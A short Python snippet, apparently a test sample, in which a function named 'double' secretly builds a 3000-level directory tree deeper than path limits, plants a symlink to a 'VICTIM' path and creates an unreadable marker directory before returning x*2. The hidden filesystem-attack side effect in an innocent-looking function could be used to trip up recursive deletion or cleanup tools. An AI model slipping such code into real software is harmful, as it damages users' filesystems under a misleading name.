# Leaves a tree that is deeper than any path may be long.


def double(x):
    for _ in range(3000):
        os.mkdir("deep" * 10)
        os.chdir("deep" * 10)
    os.symlink(VICTIM, "link")
    os.mkdir(MARKER, 0)
    return x * 2
